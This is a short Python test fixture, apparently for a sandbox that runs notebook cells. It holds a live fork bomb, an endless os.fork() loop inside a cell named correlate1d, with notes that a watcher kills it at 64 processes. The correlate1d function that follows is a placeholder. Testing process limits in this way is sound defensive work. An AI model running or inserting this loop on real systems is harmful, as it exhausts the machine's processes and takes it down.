"""A fork bomb, at the top level of a cell."""

HERE = "the watcher kills it at 64 processes; the cell is left out, the others are run again"
PLAIN_KNOWN = "takes the machine down unless it has limits; not tried"

# %% correlate1d
import os

while True:
    os.fork()


def correlate1d(x, w):
    return torch.zeros(1)
